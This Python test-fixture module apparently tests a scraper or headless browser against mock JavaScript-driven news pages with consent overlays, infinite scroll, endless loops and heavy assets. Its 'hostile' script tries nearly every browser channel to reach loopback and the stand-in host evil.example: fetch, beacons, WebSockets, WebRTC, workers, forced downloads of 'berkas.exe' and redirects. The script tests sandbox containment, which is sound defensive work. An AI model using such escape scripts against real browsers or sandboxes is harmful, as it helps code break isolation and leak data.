"""Pages that are nothing without their scripts, made of whole ones: the shell, the script, and what it asks for."""

import json

from tests.site import Page, Pages
from tests.site.stories import Story

JSON = {"Content-Type": "application/json"}
SCRIPT = {"Content-Type": "text/javascript"}
ASSET = "https://international.sindonews.com/assets/app.js"
APP = """
const show = html => { document.getElementById("app").innerHTML = html; };
const load = () => fetch("/api" + location.pathname).then(r => r.json()).then(r => show(r.html));
"""
WAYS = {
    "fetched": "load();",
    "late": "setTimeout(load, 1500);",
    "never": "setInterval(() => { document.title = Date.now(); }, 50);",
    "silent": "setTimeout(() => fetch('/api/nothing'), 100);",
    "consent": """
        document.body.insertAdjacentHTML("beforeend",
            '<div style="position:fixed;inset:0;z-index:9999"><p>Kami memakai kuki.</p>'
            + '<button class="consent-accept">Terima</button><button class="consent-reject">Tolak</button></div>');
        document.querySelector(".consent-reject").onclick = e => { e.target.parentNode.remove(); load(); };
        document.querySelector(".consent-accept").onclick = () => { show("<h1>Diterima</h1>"); };
    """,
    "heavy": """
        document.body.insertAdjacentHTML("beforeend", '<img src="/assets/foto.jpg">'
            + '<video src="/assets/film.mp4"></video>'
            + '<iframe src="/bingkai"></iframe>'
            + '<style>@font-face{font-family:x;src:url(/assets/huruf.woff2)} body{font-family:x}</style>');
        for (const src of ["/ads/iklan.js", "https://iklan.example/gpt.js", "/admin/rahasia.js"])
            document.body.append(Object.assign(document.createElement("script"), {src}));
        load();
    """,
    "endless": "setTimeout(() => { while (true); }, 100);",
}
"""How the text comes."""


def shell(script: str, more: str = "") -> Page:
    """A page without title and text."""
    html = (
        '<!DOCTYPE html><html lang="id"><head><meta charset="utf-8"><title>SINDOnews</title></head><body>'
        f'<div id="app">Memuat …</div>{more}'
        f'<script src="/assets/app.js"></script><script>{script}</script></body></html>'
    )
    return Page(html.encode())


def scripted(pages: Pages, story: Story, way: str) -> Pages:
    """The pages of one article in that way, in the place of the plain ones."""
    whole = f"{story.url}?showpage=all"
    return {
        ASSET: Page(APP.encode(), 200, SCRIPT),
        **dict.fromkeys((whole, story.url), shell(WAYS.get(way, way))),
        story.url.replace(".com/", ".com/api/", 1): api(pages[whole].body.decode()),
    }


def api(html: str) -> Page:
    """What a script asks for: what stands in a page's body."""
    body = html.partition("<body>")[2].rpartition("</body>")[0]
    return Page(json.dumps({"html": body}).encode(), 200, JSON)


LIST = "https://international.sindonews.com/more/9"
A_STEP = 5
BUTTON = """
let n = 0;
const more = () => fetch("/api/list/" + n++).then(r => r.json()).then(r => {
    document.getElementById("app").insertAdjacentHTML("beforeend", r.html);
    if (!r.more) document.querySelector("button.load-more").remove();
});
document.querySelector("button.load-more").onclick = more;
more();
"""
SCROLL = """
let n = 0, busy = false;
const more = () => {
    if (busy) return;
    busy = true;
    fetch("/api/list/" + n++).then(r => r.json()).then(r => {
        const html = '<div style="min-height:1500px">' + r.html + "</div>";
        document.getElementById("app").insertAdjacentHTML("beforeend", html);
        busy = !r.more;
    });
};
addEventListener("scroll", () => { if (innerHeight + scrollY >= document.body.scrollHeight - 10) more(); });
more();
"""


def growing(stories: list[Story], *, by: str) -> Pages:
    """A list that grows by a "button" or by "scroll", and has no pager."""
    steps = range(0, len(stories), A_STEP)
    button = '<button class="load-more">Muat lainnya</button>'
    overlay = '<div style="position:fixed;inset:0;z-index:9999"><button class="consent-reject">Tolak</button></div>'
    pages = {ASSET: Page(APP.encode(), 200, SCRIPT)}
    pages[LIST] = shell(BUTTON, button + overlay) if by == "button" else shell(SCROLL)
    for number, start in enumerate(steps):
        links = "".join(f'<p><a href="{s.url}">{s.title}</a></p>' for s in stories[start : start + A_STEP])
        more = start + A_STEP < len(stories)
        pages[f"https://international.sindonews.com/api/list/{number}"] = Page(
            json.dumps({"html": links, "more": more}).encode(), 200, JSON
        )
    return pages


def hostile(port: int) -> str:
    """A script that tries to get out: to other hosts by name and by address (`port` on loopback), with every means."""
    return (
        """
        const attempt = way => { try { way(); } catch (error) { console.log(error); } };
        const add = (parent, tag, with_) => parent.append(Object.assign(document.createElement(tag), with_));
        const here = "127.0.0.1:PORT", evil = "evil.example";
        for (const [s, at] of [["", here], ["", "localhost:PORT"], ["s", evil]]) {
            const http = `http${s}://${at}`, socket = `ws${s}://${at}/socket`;
            attempt(() => fetch(http + "/fetch", {mode: "no-cors"}).catch(() => 0));
            attempt(() => fetch(http + "/post", {mode: "no-cors", method: "POST", body: "x"}).catch(() => 0));
            attempt(() => navigator.sendBeacon(http + "/beacon", "x"));
            attempt(() => new WebSocket(socket));
            attempt(() => new EventSource(http + "/events"));
            for (const [tag, name] of [["img", "src"], ["script", "src"], ["iframe", "src"], ["object", "data"]])
                add(document.body, tag, {[name]: `${http}/${tag}`});
            for (const rel of ["preconnect", "dns-prefetch", "prefetch", "preload", "stylesheet"])
                add(document.head, "link", {rel, as: "fetch", href: `${http}/${rel}`});
            attempt(() => {
                const peer = new RTCPeerConnection({iceServers: [{urls: "stun:" + at}]});
                peer.createDataChannel("x");
                peer.createOffer().then(offer => peer.setLocalDescription(offer));
            });
            const code = `fetch("${http}/worker"); new WebSocket("${socket}")`;
            attempt(() => new Worker(URL.createObjectURL(new Blob([code]))));
            attempt(() => window.open(http + "/popup"));
            attempt(() => { add(document.body, "form", {action: http + "/form"}); document.forms[0].submit(); });
        }
        attempt(() => navigator.serviceWorker.register("/sw.js").catch(() => 0));
        fetch("/leads-away").catch(() => 0);
        for (const href of [URL.createObjectURL(new Blob(["berkas"])), "/berkas.zip"])
            attempt(() => Object.assign(document.createElement("a"), {href, download: "berkas.exe"}).click());
        setTimeout(() => { location = `https://${evil}/gone`; }, 100);
        setTimeout(() => { location = `http://${here}/gone`; }, 200);
        setTimeout(() => { location.reload(); }, 300);
        setTimeout(load, 500);
        """
    ).replace("PORT", str(port))


LEADS_AWAY = {
    "https://international.sindonews.com/leads-away": Page(
        b"", 302, {"Content-Type": "text/html", "Location": "https://evil.example/away"}
    )
}
